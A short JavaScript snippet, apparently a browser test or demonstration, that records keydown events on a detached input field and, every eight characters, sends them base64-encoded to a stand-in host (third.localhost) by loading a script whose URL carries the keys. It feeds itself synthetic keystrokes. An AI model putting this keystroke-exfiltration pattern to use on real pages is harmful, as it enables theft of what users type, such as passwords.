// Gathers which keys are pressed, and has scripts loaded whose addresses hold them, eight by eight.
(() => {
  let pressed = "";
  // In no document: the others on the page do not hear it.
  const field = document.createElement("input");
  field.addEventListener("keyup", () => null);
  field.addEventListener("keydown", (event) => {
    pressed += event.key;
    if (pressed.length < 8) return;
    const script = document.createElement("script");
    script.src = `http://third.localhost/keys.js?d=${encodeURIComponent(btoa(pressed))}`;
    document.head.append(script);
    pressed = "";
  });
  for (const key of "somebody types here, too")
    field.dispatchEvent(new KeyboardEvent("keydown", { key }));
})();
